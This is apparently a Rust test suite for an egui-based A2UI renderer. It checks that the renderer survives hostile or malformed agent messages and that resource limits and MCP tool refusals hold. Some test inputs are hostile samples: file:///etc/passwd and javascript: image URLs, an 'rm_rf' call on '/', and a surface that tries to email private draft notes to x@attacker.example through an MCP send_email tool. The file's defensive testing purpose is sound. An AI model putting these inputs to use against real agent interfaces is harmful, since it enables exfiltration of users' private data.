//! Hostile and confused agents: each named case is fed to a renderer that also holds an
//! innocent bystander surface. Every case must: not panic, report the expected error code
//! (when it is an error), leave the bystander intact, keep memory bounded, and still draw a
//! frame.

use egui_a2ui::{Catalog, Event, Limits, Renderer};
use serde_json::{Value, json};

use crate::common::explosions;

const CAT9: &str = "https://a2ui.org/specification/v0_9/catalogs/basic/catalog.json";
const CAT10: &str = "https://a2ui.org/specification/v1_0/catalogs/basic/catalog.json";

fn create(id: &str) -> Value {
    json!({"version": "v0.9", "createSurface": {"surfaceId": id, "catalogId": CAT9}})
}

fn comps(id: &str, c: Value) -> Value {
    json!({"version": "v0.9", "updateComponents": {"surfaceId": id, "components": c}})
}

fn data(id: &str, path: &str, v: Value) -> Value {
    json!({"version": "v0.9", "updateDataModel": {"surfaceId": id, "path": path, "value": v}})
}

/// A renderer with a healthy bystander surface `b`.
fn renderer(limits: Limits) -> Renderer {
    let mut r = Renderer::with_limits(Catalog::basic(), limits);
    r.apply(create("b")).into_result().expect("bystander");
    r.apply(comps(
        "b",
        json!([{"id": "root", "component": "Text", "text": {"path": "/msg"}}]),
    ))
    .into_result()
    .expect("bystander components");
    r.apply(data("b", "/msg", json!("still here")))
        .into_result()
        .expect("bystander data");
    let _ = r.take_events();
    r
}

fn draw(r: &mut Renderer) -> Vec<Event> {
    let ctx = egui::Context::default();
    let mut events = Vec::new();
    for _ in 0..2 {
        let mut out = ctx.run_ui(egui::RawInput::default(), |ui| {
            egui::ScrollArea::vertical().show(ui, |ui| events.extend(r.ui(ui)));
        });
        out.textures_delta.clear();
    }
    events
}

fn bystander_intact(r: &Renderer) {
    let b = r.store().surface("b").expect("bystander survives");
    assert!(b.is_visible());
    assert_eq!(b.data.get("/msg"), Some(&json!("still here")));
    assert_eq!(b.components().len(), 1);
}

/// Error codes reported while applying the messages.
fn codes(r: &mut Renderer) -> Vec<String> {
    r.store_mut()
        .take_errors()
        .into_iter()
        .map(|e| e.error.code().to_owned())
        .collect()
}

struct Case {
    name: &'static str,
    messages: Vec<Value>,
    /// Raw bytes fed as JSONL after the messages (for framing attacks).
    raw: Vec<u8>,
    /// Feed `raw` as a whole document (array, wrapper) instead of a JSONL stream.
    document: bool,
    /// Expected error code when applying (None: accepted).
    code: Option<&'static str>,
    /// Expected error code among the events of the drawn frames (e.g. the node budget).
    drawn: Option<&'static str>,
    limits: Limits,
}

fn case(name: &'static str, messages: Vec<Value>, code: Option<&'static str>) -> Case {
    Case {
        name,
        messages,
        raw: Vec::new(),
        document: false,
        code,
        drawn: None,
        limits: Limits::default(),
    }
}

fn raw(name: &'static str, bytes: Vec<u8>, code: Option<&'static str>) -> Case {
    Case {
        name,
        messages: Vec::new(),
        raw: bytes,
        document: false,
        code,
        drawn: None,
        limits: Limits::default(),
    }
}

/// A budget small enough that drawing a cut explosion stays quick in a debug build.
fn small_budget() -> Limits {
    Limits {
        max_nodes: 400,
        ..Limits::default()
    }
}

fn jsonl(messages: &[Value]) -> Vec<u8> {
    messages
        .iter()
        .flat_map(|m| format!("{m}\n").into_bytes())
        .collect()
}

fn deep_json(levels: usize) -> Vec<u8> {
    let mut s = Vec::with_capacity(levels * 2 + 64);
    s.extend_from_slice(br#"{"version":"v0.9","updateDataModel":{"surfaceId":"x","value":"#);
    s.extend(std::iter::repeat_n(b'[', levels));
    s.extend(std::iter::repeat_n(b']', levels));
    s.extend_from_slice(b"}}\n");
    s
}

#[expect(clippy::too_many_lines, reason = "a table of cases, a few lines each")]
fn cases() -> Vec<Case> {
    let x = || create("x");
    let mut v = vec![
        case("a_two_node_cycle", vec![x(), comps("x", json!([
            {"id": "root", "component": "Card", "child": "a"},
            {"id": "a", "component": "Card", "child": "root"}]))], None),
        case("a_child_that_is_itself", vec![x(), comps("x", json!([
            {"id": "root", "component": "Column", "children": ["root", "root"]}]))], None),
        case("a_template_whose_item_contains_the_same_template", vec![x(), comps("x", json!([
            {"id": "root", "component": "List", "children": {"componentId": "root", "path": "/l"}}])),
            data("x", "/l", json!([1, 2, 3]))], None),
        case("duplicate_ids_in_one_message", vec![x(), comps("x", json!([
            {"id": "root", "component": "Text", "text": "a"},
            {"id": "root", "component": "Text", "text": "b"}]))], Some("VALIDATION_FAILED")),
        case("ids_with_odd_characters", vec![x(), comps("x", json!([
            {"id": "root", "component": "Column", "children": ["a/b~c", "💥", "", " "]},
            {"id": "a/b~c", "component": "Text", "text": "slash"},
            {"id": "💥", "component": "Text", "text": "emoji"},
            {"id": "", "component": "Text", "text": "empty"},
            {"id": " ", "component": "Text", "text": "space"}]))], None),
        case("paths_with_tilde_escapes", vec![x(), data("x", "/a~1b/c~0d", json!(1)),
            comps("x", json!([{"id": "root", "component": "Text", "text": {"path": "/a~1b/c~0d"}}]))], None),
        case("an_invalid_tilde_escape", vec![x(), data("x", "/a~2", json!(1))], Some("DATA_MODEL_ERROR")),
        case("proto_keys_are_plain_keys", vec![x(), data("x", "/__proto__/polluted", json!(true)),
            data("x", "/constructor/prototype", json!(1))], None),
        case("a_number_out_of_range", vec![x(), comps("x", json!([
            {"id": "root", "component": "Slider", "label": "s", "min": -1e308, "max": 1e308, "value": 1e308}]))], None),
        case("a_huge_integer", vec![x(), data("x", "/n", json!(u64::MAX)),
            comps("x", json!([{"id": "root", "component": "Text", "text": {"path": "/n"}}]))], None),
        case("a_string_where_a_number_is_expected", vec![x(), comps("x", json!([
            {"id": "root", "component": "Slider", "label": "s", "min": "low", "max": "NaN", "value": "Infinity"}]))], None),
        case("an_object_where_a_string_is_expected", vec![x(), comps("x", json!([
            {"id": "root", "component": "Text", "text": {"deep": {"er": [1, 2]}}, "variant": 42}]))], None),
        case("children_of_the_wrong_type", vec![x(), comps("x", json!([
            {"id": "root", "component": "Row", "children": 7},
            {"id": "r2", "component": "Column", "children": [1, null, {"a": 1}]}]))], None),
        case("a_child_slot_that_is_a_number", vec![x(), comps("x", json!([
            {"id": "root", "component": "Card", "child": 12}]))], None),
        case("tabs_that_are_not_an_array", vec![x(), comps("x", json!([
            {"id": "root", "component": "Tabs", "tabs": "nope"}]))], None),
        case("tabs_with_missing_children", vec![x(), comps("x", json!([
            {"id": "root", "component": "Tabs", "tabs": [{"title": "a"}, {"child": "zz"}, 5]}]))], None),
        case("a_modal_without_content", vec![x(), comps("x", json!([
            {"id": "root", "component": "Modal", "trigger": "t"},
            {"id": "t", "component": "Text", "text": "open"}]))], None),
        case("choice_options_of_the_wrong_type", vec![x(), comps("x", json!([
            {"id": "root", "component": "ChoicePicker", "options": [1, "two", {"label": 3}], "value": "notalist"}]))], None),
        case("a_button_without_action_or_child", vec![x(), comps("x", json!([
            {"id": "root", "component": "Button"}]))], None),
        case("an_action_of_the_wrong_shape", vec![x(), comps("x", json!([
            {"id": "root", "component": "Button", "child": "l", "action": [1, 2]},
            {"id": "l", "component": "Text", "text": "go"}]))], None),
        case("a_function_call_to_an_unknown_function", vec![x(), comps("x", json!([
            {"id": "root", "component": "Text", "text": {"call": "rm_rf", "args": {"path": "/"}}}]))], None),
        case("deeply_nested_function_calls", vec![x(), comps("x", json!([
            {"id": "root", "component": "Text", "text": (0..200).fold(json!("x"), |acc, _| json!({"call": "not", "args": {"value": acc}}))}]))], None),
        case("checks_of_the_wrong_shape", vec![x(), comps("x", json!([
            {"id": "root", "component": "TextField", "label": "l", "checks": [1, "x", {"condition": {"call": "nope"}}]}]))], None),
        case("a_type_change_mid_stream", vec![x(), comps("x", json!([{"id": "root", "component": "TextField", "label": "a"}])),
            comps("x", json!([{"id": "root", "component": "Image", "url": "file:///etc/passwd"}]))], None),
        case("an_update_racing_delete_surface", vec![x(),
            json!({"version": "v0.9", "deleteSurface": {"surfaceId": "x"}}),
            comps("x", json!([{"id": "root", "component": "Text", "text": "late"}]))], Some("SURFACE_NOT_FOUND")),
        case("data_racing_delete_surface", vec![x(),
            json!({"version": "v0.9", "deleteSurface": {"surfaceId": "x"}}),
            data("x", "/a", json!(1))], Some("SURFACE_NOT_FOUND")),
        case("a_message_for_a_surface_of_another_version", vec![x(),
            json!({"surfaceUpdate": {"surfaceId": "x", "components": [{"id": "root", "component": {"Text": {"text": {"literalString": "v08"}}}}]}})], Some("VERSION_MISMATCH")),
        case("a_v10_message_for_a_v09_surface", vec![x(),
            json!({"version": "v1.0", "updateDataModel": {"surfaceId": "x", "path": "/a", "value": 1}})], Some("VERSION_MISMATCH")),
        case("create_surface_twice", vec![x(), x()], Some("SURFACE_ALREADY_EXISTS")),
        case("an_unknown_catalog", vec![json!({"version": "v0.9", "createSurface": {"surfaceId": "x", "catalogId": "file:///etc/catalog.json"}})], Some("CATALOG_NOT_FOUND")),
        case("an_unknown_message_type", vec![json!({"version": "v0.9", "formatDisk": {"surfaceId": "b"}})], Some("VALIDATION_FAILED")),
        case("an_unknown_version", vec![json!({"version": "v9.9", "deleteSurface": {"surfaceId": "b"}})], Some("VALIDATION_FAILED")),
        case("a_message_that_is_not_an_object", vec![json!("deleteSurface"), json!(null), json!([1])], Some("VALIDATION_FAILED")),
        case("a_surface_id_of_the_wrong_type", vec![json!({"version": "v0.9", "deleteSurface": {"surfaceId": 5}})], Some("VALIDATION_FAILED")),
        case("writing_through_a_primitive", vec![x(), data("x", "/a", json!(1)), data("x", "/a/b", json!(2))], Some("DATA_MODEL_ERROR")),
        case("a_huge_array_index", vec![x(), data("x", "/l/4294967295", json!(1))], Some("DATA_MODEL_ERROR")),
        case("a_million_item_data_array", vec![x(), data("x", "/items", Value::Array((0..1_000_000).map(|i| json!(i)).collect())),
            comps("x", json!([{"id": "root", "component": "List", "children": {"componentId": "t", "path": "/items"}},
                {"id": "t", "component": "Text", "text": {"path": "."}}]))], None),
        case("a_huge_string", vec![x(), data("x", "/s", json!("A".repeat(3_000_000))),
            comps("x", json!([{"id": "root", "component": "Text", "text": {"path": "/s"}}]))], None),
        case("v08_value_maps_nested_too_deep", vec![json!({"dataModelUpdate": {"surfaceId": "x", "contents": [
            (0..100).fold(json!({"key": "leaf", "valueString": "x"}), |acc, i| json!({"key": format!("k{i}"), "valueMap": [acc]}))]}})], Some("VALIDATION_FAILED")),
        case("v10_create_surface_with_a_reserved_surface_component", vec![json!({"version": "v1.0", "createSurface": {"surfaceId": "x", "catalogId": CAT10,
            "components": [{"id": "root", "component": "Surface"}]}})], Some("VALIDATION_FAILED")),
        case("v10_update_without_value", vec![json!({"version": "v1.0", "updateDataModel": {"surfaceId": "b", "path": "/msg"}})], Some("VALIDATION_FAILED")),
        case("an_unknown_component_type", vec![x(), comps("x", json!([{"id": "root", "component": "Hologram", "child": "root"}]))], None),
        case("nan_like_strings_in_bindings", vec![x(), data("x", "/n", json!("NaN")), comps("x", json!([
            {"id": "root", "component": "Slider", "label": "s", "min": 0, "max": 10, "steps": 0, "value": {"path": "/n"}}]))], None),
        case("a_relative_path_climbing_out", vec![x(), comps("x", json!([
            {"id": "root", "component": "Text", "text": {"path": "../../../msg"}}]))], None),
        case("an_image_with_a_file_url", vec![x(), comps("x", json!([
            {"id": "root", "component": "Image", "url": "file:///etc/passwd"}]))], None),
        case("a_javascript_image_url", vec![x(), comps("x", json!([
            {"id": "root", "component": "Image", "url": "javascript:alert(1)"}]))], None),
        raw("truncated_lines", b"{\"version\":\"v0.9\",\"createSur\n{\"version\":\n".to_vec(), Some("VALIDATION_FAILED")),
        raw("invalid_utf8", b"{\"version\":\"v0.9\",\"deleteSurface\":{\"surfaceId\":\"\xff\xfe\"}}\n".to_vec(), Some("VALIDATION_FAILED")),
        raw("json_nested_100000_levels", deep_json(100_000), Some("LIMIT_EXCEEDED")),
        raw("nan_and_infinity_literals", b"{\"version\":\"v0.9\",\"updateDataModel\":{\"surfaceId\":\"b\",\"path\":\"/n\",\"value\":NaN}}\n{\"version\":\"v0.9\",\"updateDataModel\":{\"surfaceId\":\"b\",\"path\":\"/n\",\"value\":Infinity}}\n".to_vec(), Some("VALIDATION_FAILED")),
        raw("a_nul_byte_line", b"\0\0\0\n".to_vec(), Some("VALIDATION_FAILED")),
    ];
    v.push(Case {
        name: "shared_children_40_levels_deep",
        messages: vec![x(), comps("x", explosions::shared_children(40))],
        drawn: Some("LIMIT_EXCEEDED"),
        limits: small_budget(),
        ..case("", Vec::new(), None)
    });
    v.push(Case {
        name: "a_template_that_expands_its_own_absolute_path",
        messages: vec![x(), data("x", "/l", json!((0..20).collect::<Vec<u32>>())), comps("x", json!([
            {"id": "root", "component": "Column", "children": {"componentId": "item", "path": "/l"}},
            {"id": "item", "component": "Column", "children": {"componentId": "item", "path": "/l"}}]))],
        drawn: Some("LIMIT_EXCEEDED"),
        limits: small_budget(),
        ..case("", Vec::new(), None)
    });
    v.push(raw(
        "a_byte_order_mark_before_the_stream",
        [
            b"\xEF\xBB\xBF".to_vec(),
            jsonl(&[
                x(),
                comps(
                    "x",
                    json!([{"id": "root", "component": "Text", "text": "bom"}]),
                ),
            ]),
        ]
        .concat(),
        None,
    ));
    v.push(Case {
        name: "a_byte_order_mark_before_an_array_document",
        raw: [
            b"\xEF\xBB\xBF[".to_vec(),
            x().to_string().into_bytes(),
            b"]".to_vec(),
        ]
        .concat(),
        document: true,
        ..case("", Vec::new(), None)
    });
    v.push(Case {
        name: "cumulative_data_model_growth",
        messages: std::iter::once(x())
            .chain((0..40).map(|i| data("x", &format!("/k{i}"), json!("g".repeat(3_000)))))
            .collect(),
        code: Some("LIMIT_EXCEEDED"),
        limits: Limits {
            max_data_model_bytes: 30_000,
            ..Limits::default()
        },
        ..case("", Vec::new(), None)
    });
    v.push(Case {
        name: "an_oversized_array_element",
        raw: format!(
            "[{}, {}, {}]",
            x(),
            data("x", "/big", json!("o".repeat(5_000))),
            comps(
                "x",
                json!([{"id": "root", "component": "Text", "text": "after"}])
            )
        )
        .into_bytes(),
        document: true,
        code: Some("LIMIT_EXCEEDED"),
        limits: Limits {
            max_message_bytes: 1_000,
            ..Limits::default()
        },
        ..case("", Vec::new(), None)
    });
    v.push(Case {
        name: "an_oversized_element_of_a_messages_wrapper",
        raw: format!(
            "{{\"messages\": [{}, {}]}}",
            x(),
            data("x", "/big", json!("o".repeat(5_000)))
        )
        .into_bytes(),
        document: true,
        code: Some("LIMIT_EXCEEDED"),
        limits: Limits {
            max_message_bytes: 1_000,
            ..Limits::default()
        },
        ..case("", Vec::new(), None)
    });
    v.push(case(
        "a_write_path_a_thousand_segments_deep",
        vec![x(), data("x", &"/a".repeat(1_000), json!(1))],
        Some("DATA_MODEL_ERROR"),
    ));
    v.push(Case {
        name: "too_many_surfaces",
        messages: (0..10).map(|i| create(&format!("s{i}"))).collect(),
        raw: Vec::new(),
        document: false,
        code: Some("LIMIT_EXCEEDED"),
        drawn: None,
        limits: Limits {
            max_surfaces: 5,
            ..Limits::default()
        },
    });
    v.push(Case {
        name: "too_many_components",
        messages: vec![
            x(),
            comps(
                "x",
                Value::Array(
                    (0..100)
                        .map(|i| json!({"id": format!("c{i}"), "component": "Text", "text": "x"}))
                        .collect(),
                ),
            ),
        ],
        raw: Vec::new(),
        document: false,
        code: Some("LIMIT_EXCEEDED"),
        drawn: None,
        limits: Limits {
            max_components: 50,
            ..Limits::default()
        },
    });
    v.push(Case {
        name: "a_line_over_the_byte_limit",
        messages: Vec::new(),
        raw: format!("{}\n", data("b", "/big", json!("x".repeat(10_000)))).into_bytes(),
        document: false,
        code: Some("LIMIT_EXCEEDED"),
        drawn: None,
        limits: Limits {
            max_message_bytes: 1_000,
            max_line_bytes: 2_000,
            ..Limits::default()
        },
    });
    v.push(Case {
        name: "a_data_model_over_the_size_limit",
        messages: vec![x(), data("x", "/big", json!("y".repeat(5_000)))],
        raw: Vec::new(),
        document: false,
        code: Some("LIMIT_EXCEEDED"),
        drawn: None,
        limits: Limits {
            max_data_model_bytes: 1_000,
            ..Limits::default()
        },
    });
    v
}

#[test]
fn every_hostile_case_is_survived() {
    let all = cases();
    assert!(all.len() >= 63, "the corpus has {} cases", all.len());
    for c in all {
        let mut r = renderer(c.limits.clone());
        for m in &c.messages {
            let _ = r.apply(m).into_result();
        }
        if !c.raw.is_empty() && c.document {
            r.feed_document(&c.raw);
        } else if !c.raw.is_empty() {
            r.feed_jsonl(&c.raw);
            r.finish_jsonl();
        }
        let codes = codes(&mut r);
        match c.code {
            Some(code) => assert!(
                codes.iter().any(|k| k == code),
                "{}: expected {code}, got {codes:?}",
                c.name
            ),
            None => assert!(codes.is_empty(), "{}: unexpected errors {codes:?}", c.name),
        }
        let events = draw(&mut r);
        if let Some(code) = c.drawn {
            let n = events
                .iter()
                .filter(|e| matches!(e, Event::Error(e) if e.error.code() == code))
                .count();
            assert_eq!(
                n, 1,
                "{}: {code} reported once while drawing: {events:?}",
                c.name
            );
        }
        bystander_intact(&r);
        // Memory stays bounded: nothing beyond the limits was stored, and no walk of a
        // surface resolves more than its node budget (plus one cut stand-in per level).
        let limits = &c.limits;
        for s in r.store().surfaces() {
            assert!(
                s.data.byte_size() <= limits.max_data_model_bytes,
                "{}",
                c.name
            );
            let (tree, _) = egui_a2ui::model::resolve_tree(s, r.store().catalogs(), limits);
            let nodes = tree.map_or(0, |t| t.node_count());
            assert!(
                nodes <= limits.max_nodes + limits.max_tree_depth,
                "{}: {nodes}",
                c.name
            );
        }
        assert!(
            r.store().surfaces().count() <= limits.max_surfaces,
            "{}",
            c.name
        );
        for s in r.store().surfaces() {
            assert!(s.components().len() <= limits.max_components, "{}", c.name);
        }
    }
}

#[test]
fn a_rejected_message_leaves_its_surface_working() {
    let mut r = renderer(Limits::default());
    r.apply(create("x")).into_result().expect("create");
    r.apply(comps(
        "x",
        json!([{"id": "root", "component": "Text", "text": "ok"}]),
    ))
    .into_result()
    .expect("ok");
    let _ = r
        .apply(comps(
            "x",
            json!([{"id": "root", "component": "Text"}, {"id": "root", "component": "Text"}]),
        ))
        .into_result();
    let x = r.store().surface("x").expect("x");
    assert_eq!(
        x.component("root").expect("root").str_prop("text"),
        Some("ok")
    );
    let events = draw(&mut r);
    assert!(events.iter().all(|e| !matches!(e, Event::Action(_))));
}

#[test]
fn errors_become_agent_messages_of_the_surface_version() {
    let mut r = renderer(Limits::default());
    let _ = r
        .apply(comps(
            "b",
            json!([{"id": "a", "component": "Text"}, {"id": "a", "component": "Text"}]),
        ))
        .into_result();
    let events = r.take_events();
    let Some(Event::Error(e)) = events.first() else {
        panic!("no error event: {events:?}");
    };
    let m = e.to_message();
    assert_eq!(m["version"], "v0.9");
    assert_eq!(m["error"]["code"], "VALIDATION_FAILED");
    assert_eq!(m["error"]["surfaceId"], "b");
    assert_eq!(m["error"]["path"], "/updateComponents/components/1/id");
}

/// 1x1 PNG.
const PNG: &str = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

#[test]
fn image_cache_growth_is_bounded_and_released_with_the_surface() {
    use egui_a2ui::testing::data_cache_stats;
    let cap = 8_000;
    let mut r = renderer(Limits {
        max_image_cache_bytes: cap,
        ..Limits::default()
    });
    r.apply(create("x")).into_result().expect("x");
    let ctx = egui::Context::default();
    let draw_on = |r: &mut Renderer| {
        let mut events = Vec::new();
        for _ in 0..2 {
            let mut out = ctx.run_ui(egui::RawInput::default(), |ui| {
                egui::ScrollArea::vertical().show(ui, |ui| events.extend(r.ui(ui)));
            });
            out.textures_delta.clear();
        }
        events
    };
    // An agent sending ever new images: 25 rounds of 20 distinct URIs each.
    for round in 0..25 {
        let ids: Vec<String> = (0..20).map(|i| format!("i{i}")).collect();
        let mut c = vec![json!({"id": "root", "component": "Column", "children": ids})];
        for i in 0..20 {
            c.push(json!({"id": format!("i{i}"), "component": "Image", "url": format!("{PNG}#{round}-{i}")}));
        }
        r.apply(comps("x", Value::Array(c)))
            .into_result()
            .expect("images");
        draw_on(&mut r);
        let (entries, bytes) = data_cache_stats(&ctx);
        assert!(bytes <= cap, "round {round}: {bytes} bytes cached");
        assert!(entries * 100 <= cap, "round {round}: {entries} entries");
    }
    bystander_intact(&r);
    assert!(data_cache_stats(&ctx).0 > 0);
    r.apply(json!({"version": "v0.9", "deleteSurface": {"surfaceId": "x"}}))
        .into_result()
        .expect("delete");
    assert_eq!(
        data_cache_stats(&ctx),
        (0, 0),
        "the deleted surface's images are released"
    );
    draw_on(&mut r);
    bystander_intact(&r);
}

/// The `LIMIT_EXCEEDED` errors about `what` among `events`.
fn limit_errors(events: &[Event], what: &str) -> usize {
    events
        .iter()
        .filter(|e| {
            matches!(e, Event::Error(r) if matches!(
                &r.error,
                egui_a2ui::A2uiError::LimitExceeded { what: w, .. } if *w == what
            ))
        })
        .count()
}

#[test]
fn the_frame_call_budget_reports_limit_exceeded_once() {
    // The review's M3 shape, small: many nodes each evaluating calls every frame.
    let limits = Limits {
        max_calls_per_frame: 20,
        ..Limits::default()
    };
    let mut r = renderer(limits);
    let mut components = vec![json!({"id": "root", "component": "Column",
        "children": (0..60).map(|i| format!("t{i}")).collect::<Vec<_>>()})];
    for i in 0..60 {
        components.push(json!({"id": format!("t{i}"), "component": "Text",
            "text": {"call": "formatString", "args": {"value": format!("row {i} of ${{/n}}")}}}));
    }
    r.apply(create("x")).into_result().expect("create");
    r.apply(comps("x", json!(components)))
        .into_result()
        .expect("components");
    r.apply(data("x", "/n", json!(60)))
        .into_result()
        .expect("data");
    // Three frames, each past the budget: one report in all.
    let mut events = draw(&mut r);
    events.extend(draw(&mut r));
    assert_eq!(
        limit_errors(&events, "max_calls_per_frame"),
        1,
        "{events:?}"
    );
    bystander_intact(&r);
}

#[test]
fn calls_within_the_frame_budget_report_nothing() {
    let mut r = renderer(Limits::default());
    r.apply(create("x")).into_result().expect("create");
    r.apply(comps(
        "x",
        json!([{"id": "root", "component": "Text",
            "text": {"call": "formatString", "args": {"value": "n = ${/n}"}}}]),
    ))
    .into_result()
    .expect("components");
    let events = draw(&mut r);
    assert_eq!(
        limit_errors(&events, "max_calls_per_frame"),
        0,
        "{events:?}"
    );
}

#[test]
fn copies_into_call_arguments_are_bounded_per_frame() {
    // A 1 MB string read by 40 calls a frame: 40 MB of copies against a 4 MB budget.
    let limits = Limits {
        max_call_bytes_per_frame: 4 * 1024 * 1024,
        ..Limits::default()
    };
    let mut r = renderer(limits);
    let mut components = vec![json!({"id": "root", "component": "Column",
        "children": (0..40).map(|i| format!("t{i}")).collect::<Vec<_>>()})];
    for i in 0..40 {
        components.push(json!({"id": format!("t{i}"), "component": "Text",
            "text": {"call": "length", "args": {"value": {"path": "/big"}, "min": i}}}));
    }
    r.apply(create("x")).into_result().expect("create");
    r.apply(comps("x", json!(components)))
        .into_result()
        .expect("components");
    r.apply(data("x", "/big", json!("b".repeat(1024 * 1024))))
        .into_result()
        .expect("data");
    let events = draw(&mut r);
    assert_eq!(
        limit_errors(&events, "max_call_bytes_per_frame"),
        1,
        "{events:?}"
    );
}

#[test]
fn an_over_long_open_url_is_refused() {
    use egui_a2ui::ComponentContext;
    let cat = "https://example.com/catalogs/opener.json";
    let long = format!("https://example.com/?q={}", "a".repeat(40 * 1024));
    let mut catalog = Catalog::basic().with_catalog_id(cat, egui_a2ui::Version::V0_9);
    let url = long.clone();
    catalog.register(
        "Opener",
        move |ui: &mut egui::Ui, cx: &mut ComponentContext<'_, '_>| {
            cx.open_url(&url);
            ui.label("opener")
        },
    );
    let mut r = Renderer::with_limits(catalog, Limits::default()).with_options(
        egui_a2ui::RendererOptions {
            url_policy: egui_a2ui::UrlPolicy::default().with_user_activation(false),
            ..Default::default()
        },
    );
    r.apply(json!({"version": "v0.9", "createSurface": {"surfaceId": "s", "catalogId": cat}}))
        .into_result()
        .expect("create");
    r.apply(comps("s", json!([{"id": "root", "component": "Opener"}])))
        .into_result()
        .expect("components");
    let events = draw(&mut r);
    assert!(
        !events.iter().any(|e| matches!(e, Event::OpenUrl { .. })),
        "nothing opened"
    );
    assert!(
        limit_errors(&events, "max_open_url_bytes") >= 1,
        "{events:?}"
    );
}
/// Review H3: an AG-UI activity of 1 KiB, then one `ACTIVITY_DELTA` of forty
/// `copy /x → /x/-` (2^40 KiB if applied). A typed `PatchLimit` notice; the activity is
/// unchanged and within `max_message_bytes`; the session goes on.
#[cfg(feature = "agui")]
#[test]
fn forty_copy_activity_delta() {
    use egui_a2ui::transport::agui::AguiSession;
    use egui_a2ui::transport::{TransportError, TransportEvent};
    let limits = Limits::default();
    let mut s =
        AguiSession::new("http://127.0.0.1:1/", Catalog::basic()).with_limits(limits.clone());
    let content = json!({"a2ui_operations": [create("g")], "x": ["k".repeat(1024)]});
    s.on_item(Ok(json!({"type": "ACTIVITY_SNAPSHOT", "messageId": "m",
        "activityType": "a2ui-surface", "content": content})));
    let copy = json!({"op": "copy", "from": "/x", "path": "/x/-"});
    let ev = s.on_item(Ok(json!({"type": "ACTIVITY_DELTA", "messageId": "m",
        "activityType": "a2ui-surface", "patch": vec![copy; 40]})));
    assert!(
        ev.iter()
            .any(|e| matches!(e, TransportEvent::Notice(TransportError::PatchLimit { .. }))),
        "{ev:?}"
    );
    let kept = s.activity("m").expect("activity kept").content();
    assert_eq!(kept, &content);
    assert!(kept.to_string().len() <= limits.max_message_bytes);
    assert!(s.store().surface("g").is_some());
}

/// Review M2: a surface that does not belong to the MCP server's sessions binds
/// `callMcpTool` `send_email` with data-model content. Nothing is sent or queued, the
/// refusal is typed, and the bystander is intact.
#[test]
fn call_mcp_tool_from_a_foreign_surface() {
    use egui_a2ui::mcp::{MCP_CATALOG_V1_0, McpCatalog, McpError, ToolDirectory};
    let mut tools = ToolDirectory::new();
    tools.insert_tools_list(
        "mail",
        &json!({"tools": [{"name": "send_email", "inputSchema": {"type": "object"}}]}),
    );
    let mcp = McpCatalog::new("mail", tools);
    let mut catalog = Catalog::basic();
    mcp.install(&mut catalog).expect("install");
    // The MCP server's own store is bound; the renderer drawing the agent's surface is not.
    mcp.bind_store(egui_a2ui::SurfaceStore::basic().id());
    let mut r = Renderer::with_limits(catalog, Limits::default());
    r.apply(create("b")).into_result().expect("bystander");
    r.apply(comps(
        "b",
        json!([{"id": "root", "component": "Text", "text": {"path": "/msg"}}]),
    ))
    .into_result()
    .expect("bystander components");
    r.apply(data("b", "/msg", json!("still here")))
        .into_result()
        .expect("bystander data");
    r.apply(
        json!({"version": "v1.0", "createSurface": {"surfaceId": "x", "catalogId": CAT10,
        "dataModel": {"draft": "private notes"},
        "components": [{"id": "root", "component": "Text", "text": {"@call": "callMcpTool",
            "catalogId": MCP_CATALOG_V1_0, "args": {"name": "send_email", "arguments":
            {"to": "x@attacker.example", "body": {"@path": "/draft"}}}}}]}}),
    )
    .into_result()
    .expect("hostile surface");
    draw(&mut r);
    assert!(mcp.take_requests().is_empty(), "nothing sent");
    assert!(mcp.awaiting_approval().is_empty(), "nothing queued");
    assert!(
        mcp.take_errors()
            .iter()
            .any(|e| matches!(e, McpError::ForeignSurface { .. }))
    );
    bystander_intact(&r);
}

/// A host function that counts its calls; pure or not as asked.
struct Counting {
    pure: bool,
    calls: std::sync::Arc<std::sync::atomic::AtomicUsize>,
}

impl egui_a2ui::eval::Function for Counting {
    fn name(&self) -> &str {
        if self.pure {
            "countPure"
        } else {
            "countImpure"
        }
    }
    fn is_pure(&self) -> bool {
        self.pure
    }
    fn call(
        &self,
        args: &serde_json::Map<String, Value>,
        _cx: &egui_a2ui::eval::EvalContext<'_>,
    ) -> Result<Value, String> {
        self.calls
            .fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        Ok(args.get("v").cloned().unwrap_or(Value::Null))
    }
}

#[test]
fn a_pure_call_runs_once_per_revision_and_an_impure_one_every_frame() {
    use std::sync::Arc;
    use std::sync::atomic::{AtomicUsize, Ordering};
    let pure = Arc::new(AtomicUsize::new(0));
    let impure = Arc::new(AtomicUsize::new(0));
    let mut catalog = Catalog::basic();
    catalog.register_function(Counting {
        pure: true,
        calls: pure.clone(),
    });
    catalog.register_function(Counting {
        pure: false,
        calls: impure.clone(),
    });
    let mut r = Renderer::new(catalog);
    r.apply(create("x")).into_result().expect("create");
    r.apply(comps(
        "x",
        json!([{"id": "root", "component": "Column", "children": ["p", "i"]},
            {"id": "p", "component": "Text",
                "text": {"call": "countPure", "args": {"v": {"path": "/n"}}}},
            {"id": "i", "component": "Text",
                "text": {"call": "countImpure", "args": {"v": {"path": "/n"}}}}]),
    ))
    .into_result()
    .expect("components");
    r.apply(data("x", "/n", json!("one")))
        .into_result()
        .expect("data");
    // One context, as a host has: the values live in its memory between frames.
    let ctx = egui::Context::default();
    let frames = |r: &mut Renderer| {
        for _ in 0..5 {
            let mut out = ctx.run_ui(egui::RawInput::default(), |ui| {
                let _ = r.ui(ui);
            });
            out.textures_delta.clear();
        }
    };
    frames(&mut r);
    assert_eq!(pure.load(Ordering::Relaxed), 1, "once for the revision");
    assert!(impure.load(Ordering::Relaxed) >= 5, "every frame");
    // A data change is a new revision: the pure call runs again, once.
    r.apply(data("x", "/n", json!("two")))
        .into_result()
        .expect("data");
    frames(&mut r);
    assert_eq!(pure.load(Ordering::Relaxed), 2);
}
